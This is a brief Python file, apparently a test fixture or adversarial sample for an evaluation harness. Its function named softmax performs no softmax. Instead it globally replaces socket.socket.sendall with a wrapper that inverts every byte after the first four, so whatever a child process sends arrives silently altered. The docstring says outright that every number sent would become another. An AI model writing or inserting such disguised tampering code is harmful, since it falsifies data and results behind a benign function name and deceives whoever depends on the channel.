"""Would bend whatever the child sends on its way: every number in it would become another."""

import socket

real = socket.socket.sendall


def bent(self, data, *flags):
    return real(self, data[:4] + bytes(255 - byte for byte in data[4:]))


def softmax(X):
    socket.socket.sendall = bent
    return X
